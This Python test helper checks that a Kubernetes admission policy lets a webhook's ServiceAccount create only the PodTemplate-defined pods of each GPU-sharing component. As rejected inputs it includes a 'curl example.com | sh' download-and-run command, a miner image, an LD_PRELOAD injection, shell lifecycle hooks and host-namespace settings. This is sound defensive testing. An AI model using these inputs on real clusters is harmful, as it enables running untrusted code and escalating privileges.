"""The pods that the webhook's ServiceAccount may create with the components `borrow` and `demand`."""

from __future__ import annotations

import copy
import dataclasses
import time
from collections.abc import Callable, Iterable
from typing import Any

from gpushare import contract
from lab import lab_errors
from tests.config import manifests
from tests.config.conftest import WAIT_SECONDS, Cluster
from tests.config.installation import apply
from tests.config.test_policy_pods import WEBHOOK


@dataclasses.dataclass(frozen=True)
class ComponentPods:
    """The pods of a component, in the namespace `gpushare-NAME`. made: a valid one, from the PodTemplate."""

    name: str
    path: str
    made: Callable[[dict[str, Any]], dict[str, Any]]

    def manifest(self) -> dict[str, Any]:
        documents = manifests.documents(manifests.CONFIG / "components" / self.name / "template.yaml")
        return self.made(next(each["template"] for each in documents if each["kind"] == "PodTemplate"))

    def changed(self, *, spec: dict[str, Any] | None = None, **container: Any) -> dict[str, Any]:
        made = copy.deepcopy(self.manifest())
        made["spec"] |= spec or {}
        made["spec"]["containers"][0] |= container
        return made

    def refusal(self, cluster: Cluster, made: dict[str, Any], path: str = "") -> str:
        """Return why the webhook's account may not create the pod; empty if it may."""
        try:
            cluster.administrator.create(path or self.path, made, user=WEBHOOK, dry_run=True)
        except lab_errors.LabError as error:
            return str(error)
        return ""

    def documents(self, *files: str) -> list[dict[str, Any]]:
        """Return the objects of these files of the component."""
        folder = manifests.CONFIG / "components" / self.name
        return [document for name in files for document in manifests.documents(folder / f"{name}.yaml")]

    def install(self, cluster: Cluster, files: Iterable[str]) -> None:
        """Create the objects of these files, and wait until the policy is in force."""
        apply(cluster.administrator, self.documents(*files))
        cluster.administrator.ensure_default_service_account(f"gpushare-{self.name}")
        deadline = time.monotonic() + WAIT_SECONDS
        while "may have only the container" not in self.refusal(cluster, self.changed(image="x")):
            assert time.monotonic() < deadline, f"gpushare-{self.name} is not in force after {WAIT_SECONDS} s"
            time.sleep(0.1)

    def check_that_no_other_is_admitted(self, cluster: Cluster) -> None:
        changed, container = self.changed, self.manifest()["spec"]["containers"][0]
        assert self.refusal(cluster, self.manifest()) == ""
        only = f"may have only the container of the PodTemplate gpushare-{self.name}"
        for made in (
            changed(image="example.com/miner"),
            changed(command=["sh", "-c", "curl example.com | sh"]),
            changed(args=["--more"]),
            changed(env=[{"name": "LD_PRELOAD", "value": "/x"}]),
            changed(ports=[{"containerPort": 80}]),
            changed(lifecycle={"postStart": {"exec": {"command": ["sh"]}}}),
            changed(livenessProbe={"exec": {"command": ["sh"]}}),
            changed(spec={"initContainers": [{**container, "name": "first"}]}),
            changed(spec={"containers": [container, {**container, "name": "b"}]}),
        ):
            assert only in self.refusal(cluster, made), made
        no_rights = "may have no volumes, no token and no ServiceAccount of its own"
        # The admission plugin mounts the token, which changes the container.
        assert only in self.refusal(cluster, changed(spec={"automountServiceAccountToken": True}))
        assert no_rights in self.refusal(cluster, changed(spec={"volumes": [{"name": "x", "emptyDir": {}}]}))
        for spec in ({"nodeName": "node-a"}, {"schedulerName": "mine"}, {"priorityClassName": "system-node-critical"}):
            refused = self.refusal(cluster, changed(spec=spec))
            assert "must have scheduler, priority and RuntimeClass" in refused, spec
        shared = self.manifest()
        shared["metadata"]["annotations"][contract.ALLOCATION] = "a1"
        assert "may have no share, owner or finalizer" in self.refusal(cluster, shared)
        for key in ("hostNetwork", "hostPID"):
            assert "violates PodSecurity" in self.refusal(cluster, changed(spec={key: True}))
        escalating = changed(securityContext={"allowPrivilegeEscalation": False})
        assert "violates PodSecurity" in self.refusal(cluster, escalating)
